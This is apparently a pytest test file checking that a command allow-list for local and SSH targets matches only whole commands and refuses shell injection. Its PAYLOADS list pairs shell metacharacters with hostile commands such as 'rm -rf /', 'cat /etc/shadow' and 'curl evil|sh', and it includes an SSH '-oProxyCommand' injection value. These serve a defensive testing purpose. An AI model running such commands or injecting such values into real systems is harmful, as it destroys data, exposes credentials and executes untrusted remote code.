"""What may run on a target: a command that a pattern stands for as a whole, and nothing else."""

from __future__ import annotations

import itertools
import shlex
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from polydesk.domain.command import fill, words_of
from polydesk.domain.errors import Invalid, Missing
from polydesk.domain.target import Target, TargetKind

SHELL = [
    ";",
    "|",
    "&",
    "&&",
    "||",
    "$",
    "$(",
    "`",
    "<",
    ">",
    ">>",
    "\n",
    "\r",
    "\0",
    "\x1b",
    "\u2028",
]
COMMANDS = ["id", "rm -rf /", "cat /etc/shadow", "curl evil|sh", "reboot"]
SHAPES = ["{0}{1}", "a{0}{1}", "a {0} {1}", "'a'{0}{1}", '"{0}{1}"', "{0}({1})", "a\\{0}{1}"]
PAYLOADS = [
    shape.format(sign, command)
    for sign, command, shape in itertools.product(SHELL, COMMANDS, SHAPES)
]


def target(*patterns: str, **said: Any) -> Target:
    return Target(name="t", kind=TargetKind.LOCAL, patterns=patterns, **said)


def allows(pattern: str, command: str) -> bool:
    return not target(pattern).refusal(words_of(command))


@pytest.mark.parametrize(
    ("pattern", "command"),
    [
        ("uname -a", "uname -a"),
        ("uname -a", "uname   -a"),
        ("uname -a", "'uname' \"-a\""),
        ("echo *", "echo hello world"),
        ("echo *", "echo 'hello world'"),
        ("systemctl * nginx", "systemctl restart nginx"),
        ("*", "anything at all"),
        ('echo "a b"', "echo 'a b'"),
        ("df -h *", "df -h /var"),
        ("a*b*c", "axxbyyc"),
    ],
)
def test_a_pattern_stands_for_these_commands(pattern: str, command: str) -> None:
    assert allows(pattern, command)


@pytest.mark.parametrize(
    ("pattern", "command"),
    [
        ("uname -a", "uname -r"),
        ("uname -a", "uname -a -r"),
        ("uname -a", "xuname -a"),
        ("uname", "uname -a"),
        ("echo *", "echo"),
        ("echo *", "echox hello"),
        ("systemctl * nginx", "systemctl restart apache"),
        ("systemctl * nginx", "systemctl nginx"),
        ("ab*ba", "aba"),
        ("echo *", "'echo ' x"),
        ("[a-z]", "x"),
        ("ech?", "echo"),
    ],
)
def test_a_pattern_does_not_stand_for_those(pattern: str, command: str) -> None:
    assert not allows(pattern, command)


def test_no_star_stands_for_what_a_shell_acts_upon() -> None:
    assert len(PAYLOADS) >= 200

    for payload in PAYLOADS:
        for pattern in ("echo *", "*", "echo * end"):
            argv = ["echo", payload, *(["end"] if pattern.endswith("end") else [])]
            assert target(pattern).refusal(argv), payload


def test_a_parameter_never_becomes_two_words() -> None:
    for payload in [*PAYLOADS, "a b", "'", '"', "-rf /", "{name}", "$HOME", "*"]:
        assert fill("echo before{name}after", {"name": payload}) == (
            "echo",
            f"before{payload}after",
        )


def test_braces_are_written_twice_and_other_braces_stay() -> None:
    assert fill("awk '{print $1}' {{x}} {x}", {"x": "v"}) == ("awk", "{print $1}", "{x}", "v")


@given(st.lists(st.text(min_size=1), min_size=1, max_size=6))
def test_what_is_allowed_is_exactly_what_was_written(argv: list[str]) -> None:
    if not target("*").refusal(argv):
        assert not set(";|&$`<>\n\r\0") & set("".join(argv))
        assert shlex.split(shlex.join(argv)) == argv


def test_a_disabled_target_allows_nothing() -> None:
    assert "disabled" in target("*", enabled=False).refusal(["uname"])


def test_a_target_without_patterns_allows_nothing() -> None:
    assert target().refusal(["uname"])


@pytest.mark.parametrize("command", ["", "  ", "''", "-c x", "echo 'open", "x" * 5_000, "a\0b"])
def test_a_command_that_is_none_is_refused(command: str) -> None:
    with pytest.raises(Invalid):
        words_of(command)


@pytest.mark.parametrize(
    "said",
    [
        {"host": "", "user": "u"},
        {"host": "-oProxyCommand=x", "user": "u"},
        {"host": "h h", "user": "u"},
        {"host": "h", "user": ""},
        {"host": "h", "user": "-x"},
        {"host": "h", "user": "u", "port": 0},
        {"host": "h", "user": "u", "known_hosts": ""},
        {"host": "h", "user": "u", "key": ""},
    ],
)
def test_ssh_needs_a_host_a_user_its_keys_and_a_secret(said: dict[str, Any]) -> None:
    usual: dict[str, Any] = {"known_hosts": "h ssh-ed25519 AAAA", "key": "k"}

    with pytest.raises(Invalid):
        Target(name="t", kind=TargetKind.SSH, **(usual | said))


@pytest.mark.parametrize("name", ["", "a b", "../x", "-x", "a/b", "é", "x" * 65])
def test_a_name_that_no_folder_could_have_is_refused(name: str) -> None:
    with pytest.raises(Invalid):
        Target(name=name, kind=TargetKind.LOCAL)


def test_a_pattern_of_several_lines_is_refused() -> None:
    for pattern in ("a\nb", "", " "):
        with pytest.raises((Invalid, Missing)):
            target(pattern)
